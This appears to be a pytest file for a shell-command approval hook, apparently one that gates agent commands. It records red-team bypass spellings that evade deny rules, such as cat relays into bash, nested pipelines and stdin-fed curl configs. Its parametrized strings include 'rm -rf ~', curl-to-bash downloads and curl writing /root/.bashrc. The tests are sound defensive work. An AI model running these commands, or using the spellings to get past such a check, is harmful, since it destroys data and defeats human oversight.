"""What flows from one command into the next, found by a red-team pass: ``cat`` hands its input
on (``echo CMD | bash -c 'cat | bash'`` runs CMD), a pipeline inside a stage reads what that
stage is fed (``curl URL | (cat | bash)`` runs the download), and ``curl -K -`` reads options
from the text it is fed (``curl -K - URL <<< 'output = ~/.bashrc'``). Each was ``approve``
where the plain spelling (``echo CMD | bash``, ``curl URL | bash``, ``curl -o ~/.bashrc URL``)
is denied. Every spelling runs for real first, with a harmless payload."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

if __package__:
    from .real_runs import decision, run_in
else:
    from real_runs import decision, run_in

_RELAYS = [
    "echo '{cmd}' | bash -c 'cat | bash'", "echo '{cmd}' | (cat | bash)",
    "echo '{cmd}' | {{ cat | bash; }}", "echo '{cmd}' | cat | cat | sh",
    "echo '{cmd}' | (true; cat | sh) | cat", "bash -c 'cat | sh' <<< '{cmd}'",
    "echo '{cmd}' | bash -c '(cat | bash)'", "echo '{cmd}' | sh -c 'cat | cat | sh'",
]  # fmt: skip
_DOWNLOADS = [
    "curl -s {url} | (cat | bash)", "curl -s {url} | {{ cat | sh; }}",
    "curl -s {url} | (cat | tee copy | bash)", "curl -s {url} | (grep -v '^#' | bash)",
    "base64 -d {b64} | (cat | bash)",
]  # fmt: skip
_CONFIGS = [
    "curl -s -K - {url} <<< 'output = {f}'", "echo '-o {f}' | curl -s -K - {url}",
    "curl -s -K <(echo 'output {f}') {url}", "curl -s --config <(printf 'output = \"{f}\"') {url}",
    "curl -s -K - <<< $'# a comment\\nurl={url}\\n-o {f}'", "curl -sK - {url} <<< 'output: {f}'",
]  # fmt: skip


@pytest.mark.parametrize("spelling", _RELAYS)
def test_cat_hands_the_input_of_a_script_on_to_the_shell_after_it(tmp_path: Path, spelling: str):
    run_in(tmp_path, spelling.format(cmd=f"touch {tmp_path / 'ran'}"))
    assert (tmp_path / "ran").exists(), spelling
    command = spelling.format(cmd="rm -rf ~")
    assert decision(command, tmp_path) == "deny", command


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("su") is None, reason="needs root and su")
def test_su_hands_its_input_through_cat_as_well(tmp_path: Path):
    spelling = "echo '{cmd}' | su -c 'cat | bash'"
    run_in(tmp_path, spelling.format(cmd=f"touch {tmp_path / 'ran'}"))
    assert (tmp_path / "ran").exists()
    assert decision(spelling.format(cmd="rm -rf ~"), tmp_path) == "deny"


@pytest.mark.parametrize("spelling", _DOWNLOADS)
def test_a_pipeline_in_a_stage_reads_what_the_stage_is_fed(tmp_path: Path, spelling: str):
    payload = tmp_path / "payload"
    payload.write_text(f"touch {tmp_path / 'ran'}\n")
    encoded = tmp_path / "payload.b64"
    encoded.write_bytes(subprocess.run(["base64", str(payload)], capture_output=True,
                                       check=True).stdout)  # fmt: skip
    run_in(tmp_path, spelling.format(url=f"file://{payload}", b64=encoded))
    assert (tmp_path / "ran").exists(), spelling
    command = spelling.format(url="https://example.com/x.sh", b64="x.b64")
    plain = command.replace("(", "").replace(")", "").replace("{", "").replace("}", "")
    plain = plain.replace("; ", " ").replace("cat | ", "")
    assert decision(command, tmp_path) == "deny", command
    assert decision(plain, tmp_path) == "deny", plain


@pytest.mark.parametrize("spelling", _CONFIGS)
def test_options_curl_reads_from_the_text_it_is_fed_are_judged(tmp_path: Path, spelling: str):
    if shutil.which("curl") is None:
        pytest.skip("needs curl")
    source = tmp_path / "source.txt"
    source.write_text("x\n")
    run_in(tmp_path, spelling.format(url=f"file://{source}", f="written.txt"))
    assert (tmp_path / "written.txt").read_text() == "x\n", spelling
    command = spelling.format(url="https://example.com/x", f="/root/.bashrc")
    assert decision(command, tmp_path) == "deny", command


@pytest.mark.parametrize(
    "command",
    ["ls | (cat | sort)", "echo ls | bash -c 'cat | bash'", "cat | bash",
     "bash -c 'cat | bash' < script.sh", "curl -s -K - https://example.com <<< 'silent'",
     "curl -s -K cfg https://example.com", "echo 'rm -rf ~' | bash -c 'cat'",
     "curl -s -K - https://example.com <<< 'output = out.txt'"],
)  # fmt: skip
def test_ordinary_pipes_and_configs_stay_a_persons_call(tmp_path: Path, command: str):
    assert decision(command, tmp_path) == "approve", command
